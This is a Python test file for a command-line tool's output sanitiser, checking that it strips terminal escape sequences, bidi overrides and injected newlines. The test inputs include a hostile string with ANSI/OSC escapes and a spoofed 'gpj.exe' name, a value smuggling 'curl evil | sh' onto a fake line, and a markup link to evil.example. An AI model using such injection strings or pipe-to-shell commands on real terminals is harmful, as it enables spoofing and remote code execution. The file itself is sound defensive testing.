import io
import json

import pytest
from rich.live import Live
from rich.text import Text

from matinee.cli import output
from matinee.cli.terminal import PlainConsole, json_text, line, plain

HOSTILE = "a\x1b[31mred\x1b]0;title\x07\x9b2J\r\x08\x7f\u202egpj.exe\u2066b"


@pytest.mark.parametrize("code", [*range(0x20), *range(0x7F, 0xA0), 0x202E, 0x2066])
def test_what_terminals_obey_is_replaced(code: int) -> None:
    kept = {0x09, 0x0A}
    assert plain(f"a{chr(code)}b") == (f"a{chr(code)}b" if code in kept else "a\ufffdb")


def test_words_of_the_world_stay() -> None:
    words = "Amélie, 七人の侍, Дом, שלום, 👩‍🚀"
    assert line(words) == words


def test_a_line_cannot_pass_for_several() -> None:
    assert line(" Film\n  fix  run this\u2028now ") == "Film   fix  run this now"


@pytest.mark.parametrize("shown", [HOSTILE, Text(HOSTILE)])
def test_a_console_shows_and_does_not_obey(shown: str | Text) -> None:
    console = PlainConsole(file=io.StringIO(), force_terminal=True, color_system=None, width=200)
    console.print(shown)
    said = console.file.getvalue()  # type: ignore[attr-defined]
    assert not set(said) & set("\x1b\x07\x9b\r\x08\x7f\u202e\u2066")
    assert "red" in said


def test_live_drawing_still_moves_the_cursor() -> None:
    console = PlainConsole(file=io.StringIO(), force_terminal=True, width=80)
    with Live(Text("one\x1b]0;x\x07\ntwo"), console=console, auto_refresh=False) as live:
        live.refresh()
    said = console.file.getvalue()  # type: ignore[attr-defined]
    assert "\x1b[1A" in said  # rich's own
    assert "\x1b]0" not in said


def test_a_name_is_no_markup(capsys: pytest.CaptureFixture[str]) -> None:
    output.out.print("[link=https://evil.example]here[/link] [bold] :smile:")
    assert capsys.readouterr().out == "[link=https://evil.example]here[/link] [bold] :smile:\n"


def test_facts_and_tables_hold_no_foreign_lines(capsys: pytest.CaptureFixture[str]) -> None:
    output.facts([("Name", "Film\nFix   curl evil | sh")])
    output.table(("id", "name"), [("1", "a\x1b[2Jb\nc")])
    said = capsys.readouterr().out
    assert said.splitlines()[0] == "Name  Film Fix   curl evil | sh"
    assert len(said.splitlines()) == 3
    assert "\x1b" not in said


def test_json_escapes_what_terminals_obey_and_means_the_same() -> None:
    text = json_text({"name": HOSTILE})
    assert not set(text) & set("\x1b\x07\x9b\r\x08\x7f\u202e\u2066")
    assert json.loads(text) == {"name": HOSTILE}
